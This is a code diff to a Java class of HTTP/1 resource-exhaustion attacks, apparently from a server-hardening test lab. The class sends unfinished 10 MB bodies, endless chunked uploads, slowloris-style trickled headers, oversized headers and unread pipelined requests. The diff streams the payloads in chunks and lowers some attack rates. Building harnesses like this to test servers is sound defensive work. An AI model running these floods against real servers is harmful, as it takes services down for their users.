@@ -6,12 +6,14 @@ import static dev.semel.attack.lab.Requests.key;
 
 import dev.semel.attack.lab.Profile;
 import dev.semel.attack.lab.Wire;
+import java.io.IOException;
 import java.util.List;
 
 /** Floods of HTTP/1. */
 final class ExhaustionAttacks {
 
     private static final int TEN_MEGABYTES = 10_000_000;
+    private static final byte[] ZEROS = new byte[64 << 10];
     private static final String MALLORY = "Authorization: Bearer mallory\r\n";
 
     private ExhaustionAttacks() {}
@@ -29,19 +31,19 @@ final class ExhaustionAttacks {
         flood(list, "bodies-without-a-caller", "14 bodies of 10 MB without a caller", 14, (target, held) -> {
             Wire wire = held.keep(target.connect());
             wire.send(upload("nobody", "", TEN_MEGABYTES) + "Expect: 100-continue\r\n\r\n");
-            wire.send(new byte[TEN_MEGABYTES - 1]);
+            send(wire, TEN_MEGABYTES - 1);
             held.rest();
         });
         flood(list, "unfinished-bodies", "14 bodies of 10 MB of one caller that never end", 14, (target, held) -> {
             Wire wire = held.keep(target.connect());
             wire.send(upload("unfinished", MALLORY, TEN_MEGABYTES) + "\r\n");
-            wire.send(new byte[TEN_MEGABYTES - 1]);
+            send(wire, TEN_MEGABYTES - 1);
             held.rest();
         });
         flood(list, "uploads", "40 uploads of 10 MB", 40, (target, held) -> {
             Wire wire = held.keep(target.connect());
             wire.send(upload("upload", MALLORY, TEN_MEGABYTES) + "\r\n");
-            wire.send(new byte[TEN_MEGABYTES]);
+            send(wire, TEN_MEGABYTES);
             held.rest();
         });
         flood(list, "uploads-without-a-length", "40 chunked bodies without an end", 40, (target, held) -> {
@@ -95,7 +97,7 @@ final class ExhaustionAttacks {
                     + "Content-Length: 2\r\n\r\n{}";
             wire.send(request);
             Thread.sleep(300);
-            wire.send(request.repeat(5));
+            wire.send(request.repeat(2));
             held.rest();
         });
     }
@@ -147,12 +149,12 @@ final class ExhaustionAttacks {
             wire.send("GET /search HTTP/1.1\r\n" + HOST + "X-A: ");
             trickle(wire, held, "a");
         });
-        flood(list, "large-heads", "heads of 15 KB, 400 a second", 4, (target, held) -> {
+        flood(list, "large-heads", "heads of 15 KB, 100 a second", 4, (target, held) -> {
             Wire wire = held.keep(target.connect());
             String head = "GET /search HTTP/1.1\r\n" + HOST + "X-A: b\r\n".repeat(1_800) + "\r\n";
             while (!held.isOver()) {
                 wire.send(head).answer();
-                Thread.sleep(10);
+                Thread.sleep(40);
             }
         });
         flood(list, "pipelined", "requests without end on 8 connections, no answer is read", 8, (target, held) -> {
@@ -171,7 +173,13 @@ final class ExhaustionAttacks {
         });
     }
 
-    private static void trickle(Wire wire, Held held, String piece) throws java.io.IOException, InterruptedException {
+    private static void send(Wire wire, int bytes) throws IOException {
+        for (int left = bytes; left > 0; left -= ZEROS.length) {
+            wire.send(left >= ZEROS.length ? ZEROS : new byte[left]);
+        }
+    }
+
+    private static void trickle(Wire wire, Held held, String piece) throws IOException, InterruptedException {
         while (!held.isOver()) {
             wire.send(piece);
             Thread.sleep(200);
